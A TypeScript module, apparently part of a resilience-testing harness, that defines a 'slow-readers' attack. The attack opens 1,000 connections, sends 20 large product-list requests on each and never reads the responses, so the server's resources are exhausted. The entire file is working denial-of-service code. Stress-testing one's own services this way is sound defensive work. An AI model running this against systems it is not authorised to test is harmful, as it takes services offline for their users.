import type { Attack } from '../attack.ts'
import { closed, open, repeat, requestText } from '../raw.ts'

/** Many large answers are asked for on each connection, and none is read. */
export const slowReaders: Attack = {
  name: 'slow-readers',
  title: '1 000 connections that ask for 20 lists each and read nothing',
  run: async (target, tally, signal) => {
    const { cultureCode, priceGroupId } = target
    const text = requestText(target, {
      path: `/products?cultureCode=${cultureCode}&priceGroupId=${priceGroupId}&maxItems=1000`,
    })
    await repeat(1000, signal, async () => {
      const socket = await open(target, tally, signal)
      if (!socket) return
      socket.pause()
      socket.write(text.repeat(20))
      await closed(socket)
    })
  },
}
